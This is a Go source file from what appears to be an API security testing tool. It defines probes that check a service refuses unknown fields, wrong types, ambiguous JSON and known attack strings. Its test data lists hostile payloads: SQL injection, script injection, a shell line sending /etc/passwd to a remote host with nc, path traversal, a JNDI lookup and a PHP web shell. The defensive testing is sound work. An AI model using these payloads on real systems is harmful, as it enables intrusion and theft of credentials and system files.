package verify

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/rampart-security/rampart/spec"
)

func inputProbes() []Probe {
	return []Probe{
		{ID: "P-030", Title: "a field that the schema does not name is refused, on every operation with a body", SeedRow: "validation: gateway", Controls: []string{"validate.openapi"},
			Proves: []string{"owasp2021:A03", "owasp2021:A04", "api2023:API3"}, Vantage: asUser, Safety: safe, Needs: needBody, Run: extraFields},
		{ID: "P-031", Title: "wrong types, missing and overlong fields are refused", SeedRow: "validation: gateway", Controls: []string{"validate.openapi"},
			Proves: []string{"owasp2021:A03", "owasp2021:A04"}, Vantage: asUser, Safety: safe, Needs: needBody, Run: wrongFields},
		{ID: "P-032", Title: "JSON with two readings is refused: duplicate keys, trailing data, great depth", SeedRow: "validation: gateway", Controls: []string{"validate.json"},
			Proves: []string{"owasp2021:A03", "owasp2021:A08"}, Vantage: asUser, Safety: safe, Needs: needBody, Run: crookedJSON,
			Blind: "a body is always read strictly, for there is no second reader"},
		{ID: "P-033", Title: "SQL and HTML in free text are stored inert", SeedRow: "owasp: A03", Controls: []string{"validate.openapi"},
			Proves: []string{"owasp2021:A03"}, Vantage: asUser, Safety: intrusive, Needs: all(needLedger, needFreeText), Run: inertText,
			Blind: "the text is legal; the service sanitises it and binds it"},
		{ID: "P-034", Title: "a known attack in free text does not reach the service, and an ordinary sentence does", SeedRow: "validation: gateway", Controls: []string{"waf.rules"},
			Proves: []string{"owasp2021:A03", "api2023:API8"}, Vantage: asUser, Safety: intrusive, Needs: all(needLedger, needFreeText), Run: knownAttacks},
	}
}

// needFreeText asks for a text in the scenario's body that the schema leaves
// free.
func needFreeText(sys *spec.System) (bool, string) {
	ops, err := operations(sys)
	if err != nil {
		return false, err.Error()
	}
	_, ok := freeText(&target{sys: sys, ops: ops})
	return ok, "the consequential request has no free text"
}

func freeText(t *target) (string, bool) {
	method, path, err := splitCall(t.sys.Verify.Scenario.Call)
	op, ok := t.find(method, path)
	body, _ := t.sys.Verify.Scenario.Body.(map[string]any)
	if err != nil || !ok {
		return "", false
	}
	props := op.body.properties()
	for _, name := range slices.Sorted(maps.Keys(props)) {
		p := props[name]
		_, used := body[name]
		if used && p.typ() == "string" && p["pattern"] == nil && p["format"] == nil && p["enum"] == nil && p.bound("maxLength", 1000) >= 100 {
			return name, true
		}
	}
	return "", false
}

// validBody is a body that fits: the scenario's own for an operation that it
// uses, with variables it has not taken yet made up; else one made from the
// schema.
func (e *Env) validBody(o operation) (map[string]any, error) {
	v, err := o.body.sample(0)
	if err != nil {
		return nil, fmt.Errorf("%s %s: %w", o.method, o.path, err)
	}
	body, ok := v.(map[string]any)
	if !ok {
		return nil, fmt.Errorf("%s %s: the body is no object", o.method, o.path)
	}
	if sc := e.sys.Verify.Scenario; sc != nil {
		for _, step := range append(slices.Clone(sc.Prepare), spec.Step{Call: sc.Call, Body: sc.Body}) {
			method, path, err := splitCall(step.Call)
			known, isObject := step.Body.(map[string]any)
			if err == nil && isObject && method == o.method && matches(o, path) {
				body = merge(body, known)
			}
		}
	}
	return body, nil
}

// merge takes what is known over what is made up, but for variables.
func merge(made, known map[string]any) map[string]any {
	out := maps.Clone(made)
	for name, v := range known {
		if text, ok := v.(string); ok && variable.MatchString(text) {
			continue
		}
		out[name] = v
	}
	return out
}

// jsonRequest is an operation's request with a body, key and nonce.
func (e *Env) jsonRequest(o operation, body any) (request, error) {
	path, err := o.url(nil)
	if err != nil {
		return request{}, err
	}
	b, err := json.Marshal(body)
	return e.stamp(request{method: o.method, path: path, body: b}, o.flow), err
}

// spoiled is an operation with a body that must not pass.
type spoiled struct {
	name string
	body map[string]any
}

// attackBodies sends, for each operation with a body, what spoil makes of a
// valid one. The valid body is sent where it does no harm: never, unless the
// scenario uses the operation; there the scenario's own run is the proof that
// valid bodies pass.
func (e *Env) attackBodies(ctx context.Context, spoil func(operation, map[string]any) []spoiled) (Result, error) {
	var who caller
	if e.sys.Verify.Scenario != nil {
		st, err := e.beginUsual(ctx)
		if err != nil {
			return Result{}, err
		}
		who = st.who
	} else {
		var err error
		if who, err = e.visitor(ctx, e.facts()); err != nil {
			return Result{}, err
		}
	}
	var attacks []attack
	for _, o := range e.ops {
		if o.body == nil {
			continue
		}
		valid, err := e.validBody(o)
		if err != nil {
			return Result{}, err
		}
		for _, s := range spoil(o, valid) {
			r, err := e.jsonRequest(o, s.body)
			if err != nil {
				return Result{}, err
			}
			attacks = append(attacks, attack{o.method + " " + o.path + " with " + s.name, r.with(who), []string{"validate.openapi"}})
		}
	}
	return e.refusedAll(ctx, attacks)
}

func extraFields(ctx context.Context, e *Env) (Result, error) {
	return e.attackBodies(ctx, func(_ operation, valid map[string]any) []spoiled {
		return []spoiled{
			{"an unknown field", altered(valid, "verify_extra", true)},
			{"a field of another object", altered(valid, "role", "admin")},
		}
	})
}

func wrongFields(ctx context.Context, e *Env) (Result, error) {
	return e.attackBodies(ctx, func(o operation, valid map[string]any) []spoiled {
		var out []spoiled
		props := o.body.properties()
		for _, name := range slices.Sorted(maps.Keys(valid)) {
			var wrong any = []any{map[string]any{}}
			if props[name].typ() == "array" {
				wrong = "not a list"
			}
			out = append(out, spoiled{name + " of another type", altered(valid, name, wrong)})
			if long := props[name].bound("maxLength", 0); long > 0 {
				out = append(out, spoiled{name + " too long", altered(valid, name, strings.Repeat("a", int(long)+1))})
				break // one of a kind is enough for each operation
			}
		}
		for _, name := range o.body.required() {
			less := maps.Clone(valid)
			delete(less, name)
			out = append(out, spoiled{"no " + name, less})
			break
		}
		return out
	})
}

func crookedJSON(ctx context.Context, e *Env) (Result, error) {
	who, err := e.visitor(ctx, e.facts())
	if err != nil {
		return Result{}, err
	}
	o := e.ops[slices.IndexFunc(e.ops, func(o operation) bool { return o.body != nil })]
	valid, err := e.validBody(o)
	if err != nil {
		return Result{}, err
	}
	r, err := e.jsonRequest(o, valid)
	if err != nil {
		return Result{}, err
	}
	text := string(r.body)
	first := strings.SplitN(strings.TrimPrefix(text, "{"), ",", 2)[0]
	var attacks []attack
	for name, body := range map[string]string{
		"a duplicate key":     `{` + first + `,` + text[1:],
		"data after the end":  text + `{}`,
		"great depth":         `{"x":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + `}`,
		"half a document":     text[:len(text)-1],
		"invalid UTF-8":       text[:1] + "\"\xff\":1," + text[1:],
		"a comment":           text + "/* x */",
		"not a number (NaN)":  `{"x":NaN}`,
		"a NUL after the end": text + "\x00",
	} {
		r.body = []byte(body)
		attacks = append(attacks, attack{name, r.with(who), []string{"validate.json"}})
	}
	return e.refusedAll(ctx, attacks)
}

// payload is what a browser would run and a pasted-together statement would
// execute.
const payload = `'); DROP TABLE verify; -- <script>alert("verify")</script><img src=x onerror=alert(1)>`

// sentence has what careless rules take for an attack: it must pass.
const sentence = "Please select the union of both and drop them off, Mrs. O'Neill said; order by 10 or so."

// known are attacks that no rule set for the web misses, one of a kind.
var known = []struct{ name, text string }{
	{"SQL", "1' UNION SELECT username, password FROM users -- "},
	{"a script", `<script>alert(document.cookie)</script>`},
	{"a shell", "; cat /etc/passwd | nc 203.0.113.9 4444"},
	{"a path", "../../../../etc/passwd"},
	{"a lookup", "${jndi:ldap://203.0.113.9/a}"},
	{"PHP", "<?php system($_GET['c']); ?>"},
}

func knownAttacks(ctx context.Context, e *Env) (Result, error) {
	st, err := e.beginUsual(ctx)
	if err != nil {
		return Result{}, err
	}
	field, _ := freeText(e.target)
	text := func(s string) (request, error) { return e.consequential(st, altered(e.body(st), field, s)) }
	r, err := text(sentence)
	if err != nil {
		return Result{}, err
	}
	if _, err := e.mustPass(ctx, "an ordinary sentence", r); err != nil {
		return Result{}, err
	}
	var attacks []attack
	for _, k := range known {
		r, err := text(k.text)
		if err != nil {
			return Result{}, err
		}
		attacks = append(attacks, attack{k.name + " in " + field, r, []string{"waf.rules"}})
	}
	return e.refusedAll(ctx, attacks)
}

func inertText(ctx context.Context, e *Env) (Result, error) {
	st, err := e.beginUsual(ctx)
	if err != nil {
		return Result{}, err
	}
	field, _ := freeText(e.target)
	r, err := e.consequential(st, altered(e.body(st), field, payload))
	if err != nil {
		return Result{}, err
	}
	res, err := e.do(ctx, r)
	if err != nil {
		return Result{}, err
	}
	e.note("%s with SQL and HTML in it: %d", field, res.status)
	if res.status >= 500 {
		return failed("the text made the service fail: %d", res.status), nil
	}
	if !res.ok() {
		return passed("the text was refused with %d", res.status), nil
	}
	rows, err := e.ledger(ctx, st)
	if err != nil {
		return Result{}, err
	}
	if len(rows) == 0 {
		return failed("what was booked with the text cannot be read back"), nil
	}
	text := strings.ToLower(fmt.Sprint(rows[0][field]))
	for _, live := range []string{"<script", "<img", "onerror="} {
		if strings.Contains(text, live) {
			return failed("%s is stored with %s in it", field, live), nil
		}
	}
	if ct := res.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		return failed("the answer is %s", ct), nil
	}
	return passed("the text was stored without markup, the ledger is whole and answers as JSON"), nil
}
